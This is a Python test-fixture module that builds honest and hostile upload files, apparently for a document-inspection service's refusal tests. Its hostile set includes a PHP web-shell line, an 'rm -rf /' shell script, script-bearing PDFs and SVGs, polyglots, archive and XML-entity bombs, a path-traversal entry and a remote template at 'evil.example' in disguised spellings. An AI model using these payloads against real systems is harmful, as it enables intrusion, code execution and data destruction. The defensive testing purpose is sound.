"""Files as people send them, honest and hostile, made here byte by byte."""

import io
import zipfile
from typing import Any

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, NumberObject, TextStringObject

from sistercities.inspection import DOCX, ODS, ODT, PPTX, XLSX

GPS = 0x8825
MAKER = "Tabriz-Planted-Camera"
"""What a camera writes into a photo, and nobody may find in what everybody gets."""


def pdf(pages: int = 2, **catalogue: Any) -> bytes:
    """A PDF of blank pages; `catalogue` adds entries to its root, as in `OpenAction=…`."""
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(595, 842)
    for name, value in catalogue.items():
        writer._root_object[NameObject(f"/{name}")] = value
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    """The bytes of a PDF."""
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def pdf_with_script() -> bytes:
    """A PDF that runs JavaScript when it is opened."""
    action = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
    return pdf(OpenAction=DictionaryObject({NameObject(name): value for name, value in action.items()}))


def pdf_with_attachment() -> bytes:
    """A PDF that carries another file."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_attachment("harmless.txt", b"MZ")
    return written(writer)


def pdf_with_password() -> bytes:
    """A PDF that only opens with a password."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret", algorithm="RC4-128")
    return written(writer)


def pdf_whose_tree_lies() -> bytes:
    """A PDF of one page that says it has two milliard."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer._root_object["/Pages"][NameObject("/Count")] = NumberObject(2_000_000_000)
    return written(writer)


def pdf_whose_tree_turns() -> bytes:
    """A PDF whose tree of pages leads back to its own root."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    pages = writer._root_object.raw_get("/Pages")
    pages.get_object()["/Kids"].append(pages)
    return written(writer)


def image(kind: str = "JPEG", size: tuple[int, int] = (640, 400), **given: Any) -> bytes:
    """A picture in one colour."""
    file = io.BytesIO()
    Image.new("RGB", size, "#1f3f94").save(file, kind, **given)
    return file.getvalue()


def photo(turned: bool = False) -> bytes:
    """A JPEG with what a camera writes into it: its maker and the place, and if `turned`, that it lies on its side."""
    exif = Image.Exif()
    exif[0x010F] = MAKER
    exif[GPS] = {1: "N", 2: (38.0, 4.0, 48.0), 3: "E", 4: (46.0, 17.0, 30.0)}
    if turned:
        exif[0x0112] = 6
    return image(exif=exif, comment=MAKER.encode())


def png_of(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it has this many pixels."""
    import struct
    import zlib

    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = b"IDAT" + zlib.compress(bytes(1000))
    chunks = (head, body, b"IEND")
    framed = (struct.pack(">I", len(one) - 4) + one + struct.pack(">I", zlib.crc32(one)) for one in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(framed)


MAIN_PARTS = {DOCX: "wordprocessingml.document", XLSX: "spreadsheetml.sheet", PPTX: "presentationml.presentation"}


def office(kind: str = DOCX, **parts: bytes | str) -> bytes:
    """An office file; `parts` adds others by name."""
    if kind in MAIN_PARTS:
        main = f"application/vnd.openxmlformats-officedocument.{MAIN_PARTS[kind]}.main+xml"
        own = {
            "[Content_Types].xml": f'<Types><Override PartName="/main.xml" ContentType="{main}"/></Types>',
            "_rels/.rels": "<Relationships/>",
            "main.xml": "<document/>",
        }
    else:
        own = {"mimetype": kind, "META-INF/manifest.xml": "<manifest/>", "content.xml": "<office/>"}
    return archive(own | parts)


def archive(parts: dict[str, bytes | str]) -> bytes:
    """A ZIP archive of these parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return file.getvalue()


def office_with_password() -> bytes:
    """A workbook behind a password: a container of the old kind around what nobody can read."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(512)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"

HONEST = {
    "pdf": (pdf(), "application/pdf"),
    "jpg": (image(), "image/jpeg"),
    "png": (image("PNG"), "image/png"),
    "webp": (image("WEBP"), "image/webp"),
    "tif": (image("TIFF"), "image/tiff"),
    "docx": (office(DOCX), DOCX),
    "xlsx": (office(XLSX), XLSX),
    "pptx": (office(PPTX, **{"ppt/slides/slide1.xml": "<s/>", "ppt/slides/slide2.xml": "<s/>"}), PPTX),
    "odt": (office(ODT), ODT),
    "ods": (office(ODS), ODS),
}
"""Files that are taken, by their ending, each with its type."""

ENTITY = '<!DOCTYPE a [<!ENTITY x "xxxxxxxx"><!ENTITY y "&x;&x;&x;&x;">]><a>&y;</a>'
ELSEWHERE = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

TEMPLATE = "word/_rels/settings.xml.rels"
DISGUISED = {
    "other quotes": ELSEWHERE.replace('"', "'"),
    "a letter as a number": ELSEWHERE.replace("External", "&#69;xternal"),
    "spaces": ELSEWHERE.replace("TargetMode=", "TargetMode = "),
    "a prefix": ELSEWHERE.replace("<Rel", "<p:Rel").replace("</Rel", "</p:Rel"),
    "a long comment before it": ELSEWHERE.replace("><", f"><!--{'x' * 70_000}--><", 1),
    "another encoding": f'<?xml version="1.0" encoding="UTF-16"?>{ELSEWHERE}'.encode("utf-16"),
}
"""Ways to write the same that an office program reads all the same."""

HOSTILE = {
    "0 bytes": ("empty.pdf", b"", "empty"),
    "HTML in a PDF’s clothing": ("agreement.pdf", HTML, "html"),
    "HTML with a comment before it": ("agreement.pdf", b"<!-- %PDF-1.7 -->" + HTML, "html"),
    "text in a PDF’s clothing": ("agreement.pdf", b"not a pdf at all", "unknown"),
    "SVG with a script": ("logo.png", SVG, "svg"),
    "SVG after a declaration": ("logo.jpg", b'<?xml version="1.0"?>' + SVG, "svg"),
    "program of Windows": ("scan.pdf", b"MZ\x90\0" + bytes(200), "program"),
    "program of Linux": ("scan.pdf", b"\x7fELF" + bytes(200), "program"),
    "script of a shell": ("scan.pdf", b"#!/bin/sh\nrm -rf /\n", "program"),
    "PHP": ("photo.jpg", b"<?php system($_GET['c']); ?>", "program"),
    "two endings, a program last": ("agreement.pdf.exe", pdf(), "name_program"),
    "two endings, a web page between": ("agreement.html.pdf", pdf(), "name_program"),
    "two endings that contradict": ("photo.jpg.pdf", pdf(), "two_endings"),
    "ending turned round by an override": ("agreement\u202efdp.exe", pdf(), "name_program"),
    "PDF and archive": ("both.pdf", pdf() + archive({"a": "a"}), "two_in_one"),
    "PDF and web page": ("both.pdf", b"%PDF-1.7\n<script>alert(1)</script>\n" + pdf(), "two_in_one"),
    "PDF with a tail": ("tail.pdf", pdf() + b"\nsomething else entirely", "two_in_one"),
    "JPEG and archive": ("both.jpg", image() + archive({"a.class": "a"}), "two_in_one"),
    "JPEG and web page": ("both.jpg", image(comment=HTML), "two_in_one"),
    "JPEG and PDF": ("both.jpg", image(comment=b"%PDF-1.7"), "two_in_one"),
    "document and something before it": ("both.docx", b"PK\3\4" + bytes(100) + office(), "two_in_one"),
    "document and something after it": ("both.docx", office() + b"<script>", "two_in_one"),
    "PDF with a password": ("secret.pdf", pdf_with_password(), "encrypted"),
    "PDF with JavaScript": ("form.pdf", pdf_with_script(), "pdf_program"),
    "PDF with a file in it": ("portfolio.pdf", pdf_with_attachment(), "pdf_attachment"),
    "PDF with milliards of pages": ("bomb.pdf", pdf_whose_tree_lies(), "page_tree"),
    "PDF whose pages turn in a circle": ("circle.pdf", pdf_whose_tree_turns(), "page_tree"),
    "PDF cut off": ("half.pdf", pdf()[:300], "damaged"),
    "bomb of pixels": ("bomb.png", png_of(60_000, 60_000), "too_many_pixels"),
    "picture cut off": ("half.jpg", image(size=(2000, 2000), quality=95)[:5000], "damaged"),
    "picture of false pixels": ("false.png", png_of(8_000, 8_000), "damaged"),
    "bomb of an archive": ("bomb.docx", office(**{"word/media/a.xml": bytes(50 * 1024**2)}), "bomb"),
    "archive of too many parts": ("many.docx", office(**{f"word/{n}": "" for n in range(5_000)}), "bomb"),
    "entities that grow": ("grow.docx", office(**{"word/document.xml": ENTITY}), "bomb"),
    "document with macros": ("macros.docx", office(**{"word/vbaProject.bin": b"x"}), "macros"),
    "document of a macro type": (
        "macros.docx",
        archive({"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "macros",
    ),
    "OpenDocument with macros": ("macros.odt", office(ODT, **{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "document with ActiveX": ("activex.docx", office(**{"word/activeX/activeX1.bin": b"x"}), "macros"),
    "document with a program in it": ("hidden.docx", office(**{"word/media/image1.png": b"MZ\x90"}), "program"),
    "document with a template elsewhere": (
        "template.docx",
        office(**{TEMPLATE: ELSEWHERE}),
        "loads_elsewhere",
    ),
    **{
        f"part from elsewhere, in {how}": ("template.docx", office(**{TEMPLATE: body}), "loads_elsewhere")
        for how, body in DISGUISED.items()
    },
    "relationships that are no XML": ("template.docx", office(**{TEMPLATE: "<Relationships>"}), "damaged"),
    "program’s ending with a space after it": ("agreement.php .pdf", pdf(), "name_program"),
    "part that leads out of its folder": ("slip.docx", office(**{"../../etc/cron.d/x": "x"}), "damaged"),
    "workbook with a password": ("secret.xlsx", office_with_password(), "encrypted"),
    "OpenDocument with a password": (
        "secret.odt",
        archive({"mimetype": ODT, "META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "encrypted",
    ),
    "Word file of before 2007": ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
    "plain archive": ("files.docx", archive({"a.txt": "a"}), "archive"),
    "Java archive": ("files.docx", archive({"META-INF/MANIFEST.MF": "a", "A.class": "a"}), "archive"),
    "HEIC photo": ("photo.jpg", b"\0\0\0\x18ftypheic" + bytes(50), "heic"),
    "film": ("film.pdf", b"\0\0\0\x18ftypisom" + bytes(50), "film"),
    "GIF": ("turning.gif", b"GIF89a" + bytes(50), "other_image"),
}
"""Files that are refused: the name each comes with, its bytes, and the code of the reason."""
